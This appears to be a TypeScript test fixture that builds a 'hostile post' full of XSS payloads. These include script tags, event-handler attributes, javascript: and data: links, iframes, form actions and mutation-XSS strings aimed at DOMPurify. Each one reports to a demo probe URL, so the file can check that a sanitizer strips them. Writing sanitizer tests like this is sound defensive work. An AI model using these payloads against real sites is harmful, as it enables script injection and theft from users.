import { XSS_PROBE_PATH } from '../hostile';

// What the hostile creator's "post" gate returns: a real paragraph plus every classic way for
// HTML to run code or load something remote. Each payload reports to the demo server's XSS
// probe with its own id (`?p=<id>`) if it ever runs or loads, and the ones that run script also
// set `top.__ptcXss = true`. URLs are absolute (the other origin), so they hit the probe
// whether the content is rendered in the page or in an extension page.

/** When a payload would fire if it survived sanitizing: as soon as it is rendered, or only on a click or submit. */
export type PayloadTrigger = 'render' | 'click' | 'submit';

export interface HostilePayload {
  probe: string;
  trigger: PayloadTrigger;
  html: string;
}

/** The text a person sees once the hostile post is sanitized and shown. */
export const HOSTILE_POST_VISIBLE_TEXT = 'Welcome, holder';

export function probeUrl(origin: string, probe: string): string {
  return `${origin}${XSS_PROBE_PATH}?p=${probe}`;
}

/** The payloads of the hostile post, for the site at `origin` (the demo's "other" origin). */
export function hostilePayloads(origin: string): HostilePayload[] {
  const url = (p: string) => probeUrl(origin, p);
  // No spaces and no quotes but backticks, so it fits any attribute, quoted or not.
  const js = (p: string) => `fetch(\`${url(p)}\`);top.__ptcXss=true`;
  const at = (probe: string, trigger: PayloadTrigger, html: string): HostilePayload => ({ probe, trigger, html });
  return [
    at('script', 'render', `<script>${js('script')}</script>`),
    at('script-src', 'render', `<script src="${url('script-src')}"></script>`),
    at('onerror', 'render', `<img src="x" alt="" onerror="${js('onerror')}">`),
    at('svg-onload', 'render', `<svg width="1" height="1" onload="${js('svg-onload')}"></svg>`),
    at('body-onload', 'render', `<body onload="${js('body-onload')}">`),
    at(
      'details-ontoggle',
      'render',
      `<details open ontoggle="${js('details-ontoggle')}"><summary>Details</summary>More for holders.</details>`,
    ),
    at('video-onerror', 'render', `<video src="x" onerror="${js('video-onerror')}"></video>`),
    at('video-source-onerror', 'render', `<video><source src="x" onerror="${js('video-source-onerror')}"></video>`),
    at('input-onfocus', 'render', `<input autofocus onfocus="${js('input-onfocus')}" value="focus me">`),
    at(
      'svg-animate',
      'render',
      `<svg width="1" height="1"><animate onbegin="${js('svg-animate')}" attributeName="x" dur="1s"></animate></svg>`,
    ),
    at('iframe', 'render', `<iframe src="${url('iframe')}"></iframe>`),
    at('iframe-js', 'render', `<iframe src="javascript:${js('iframe-js')}"></iframe>`),
    at('srcdoc', 'render', `<iframe srcdoc="<script>${js('srcdoc')}</script>"></iframe>`),
    at('object', 'render', `<object data="${url('object')}" type="text/html"></object>`),
    at('embed', 'render', `<embed src="${url('embed')}" type="text/html">`),
    at('link-css', 'render', `<link rel="stylesheet" href="${url('link-css')}">`),
    at('style-import', 'render', `<style>@import url("${url('style-import')}");</style>`),
    at('style-url', 'render', `<style>p { background-image: url("${url('style-url')}"); }</style>`),
    at('css-url', 'render', `<p style="background-image: url('${url('css-url')}')">Styled for holders.</p>`),
    at('svg-use', 'render', `<svg width="1" height="1"><use href="${url('svg-use')}#icon"></use></svg>`),
    at('meta-refresh', 'render', `<meta http-equiv="refresh" content="0;url=${url('meta-refresh')}">`),
    // Only the <base> makes this relative image reach the probe.
    at('base-href', 'render', `<base href="${origin}${XSS_PROBE_PATH}"><img src="?p=base-href" alt="">`),
    at('template', 'render', `<template><img src="x" onerror="${js('template')}"></template>`),
    at(
      'form-action',
      'submit',
      `<form action="${url('form-action')}" method="post"><input name="code" value="holder"><button type="submit">Claim the reward</button></form>`,
    ),
    at('formaction', 'submit', `<form><button formaction="${url('formaction')}" formmethod="post">Send</button></form>`),
    // Namespace-confusion payloads that got past DOMPurify in the past (mutation XSS).
    at('mxss-noscript', 'render', `<noscript><p title="</noscript><img src=x onerror=${js('mxss-noscript')}>"></p></noscript>`),
    at('mxss-svg-style', 'render', `<svg></p><style><a id="</style><img src=1 onerror=${js('mxss-svg-style')}>">`),
    at(
      'mxss-mglyph',
      'render',
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${js('mxss-mglyph')}&gt;">`,
    ),
    at(
      'mxss-textarea',
      'render',
      `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${js('mxss-textarea')} src=1>"></path></textarea></mtext></svg></mglyph></mi></math>`,
    ),
    at('mxss-svg-img', 'render', `<svg><style><img src=x onerror=${js('mxss-svg-img')}></style></svg>`),
    // Last: it leaves a <form> open, and an open form makes the parser drop any later <form>.
    at('mxss-form-math', 'render', `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js('mxss-form-math')}>`),
    at('onclick', 'click', `<div onclick="${js('onclick')}">Tap to reveal the rest.</div>`),
    at('js-href', 'click', `<a href="javascript:${js('js-href')}">Read the full post</a>`),
    at('js-href-entity', 'click', `<a href="&#106;avascript:${js('js-href-entity')}">Open the archive</a>`),
    at('js-href-tab', 'click', `<a href="jav&#x09;ascript:${js('js-href-tab')}">Open the notes</a>`),
    at('data-href', 'click', `<a href="data:text/html,<script>${js('data-href')}</script>">Open the attachment</a>`),
    at(
      'area-js-href',
      'click',
      `<map name="ptc-map"><area shape="rect" coords="0,0,200,40" href="javascript:${js('area-js-href')}" alt="Map area"></map><img usemap="#ptc-map" src="x" alt="map">`,
    ),
    at(
      'xlink',
      'click',
      `<svg width="160" height="30"><a xlink:href="javascript:${js('xlink')}"><text x="0" y="20">Tap here</text></a></svg>`,
    ),
    at(
      'svg-href',
      'click',
      `<svg width="160" height="30"><a href="javascript:${js('svg-href')}"><text x="0" y="20">Or here</text></a></svg>`,
    ),
  ];
}

/** Every probe id a hostile post payload can fire. */
export const HOSTILE_POST_PROBES: readonly string[] = hostilePayloads('http://x').map((p) => p.probe);

/**
 * The hostile post gate's content: a real post around the payloads. Each payload sits in its own
 * <div>, whose end tag closes any <svg> or <math> a payload leaves open, so they do not nest.
 */
export function hostilePost(origin: string): string {
  return `<h2>${HOSTILE_POST_VISIBLE_TEXT}</h2>
<p>${HOSTILE_POST_VISIBLE_TEXT}. This post is for people who hold $ALEX, and it is the only paragraph here meant to be read: everything else tries to run code.</p>
<p>Links that are fine: <a href="https://example.com">example.com</a> and <a href="https://example.com/holders" target="_blank" rel="noopener">the holders page</a>.</p>
${hostilePayloads(origin)
  .map((p) => `<div>${p.html}</div>`)
  .join('\n')}
<p>End of the post.</p>`;
}
